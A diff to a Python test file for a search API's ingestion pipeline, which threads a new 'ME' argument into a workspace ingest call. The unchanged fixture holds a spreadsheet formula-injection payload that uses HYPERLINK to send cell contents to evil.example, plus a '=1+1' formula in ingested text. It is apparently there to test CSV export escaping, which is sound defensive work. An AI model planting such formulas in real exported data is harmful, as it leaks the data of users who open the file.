@@ -5,7 +5,6 @@ import csv
 import io
 import json
 from collections.abc import Iterator, Mapping
-from pathlib import Path
 
 import pytest
 from fastapi.testclient import TestClient
@@ -13,6 +12,7 @@ from fastapi.testclient import TestClient
 from pipeline.settings import Settings
 from pipeline.workspace import Workspace
 from search_api.app import create_app
+from tests.makers import ME
 
 _FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"تفاهم‌نامه")'
 
@@ -24,7 +24,7 @@ def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
     line = {"id": "evil", "title": _FORMULA, "text": "دانشگاه تهران ۱۲ تفاهم‌نامه امضا کرد.\n\n=1+1 ۵ تفاهم‌نامه"}
     (folder / "evil.jsonl").write_text(json.dumps(line), encoding="utf-8")
     with Workspace(Settings(workspace=folder / "workspace", workers=1)) as space:
-        space.ingest([folder / "evil.jsonl"])
+        space.ingest(ME, [folder / "evil.jsonl"])
     app = create_app(Workspace(Settings(workspace=folder / "workspace", workers=1, upload_bytes=50_000)))
 
     @app.get("/broken", include_in_schema=False)
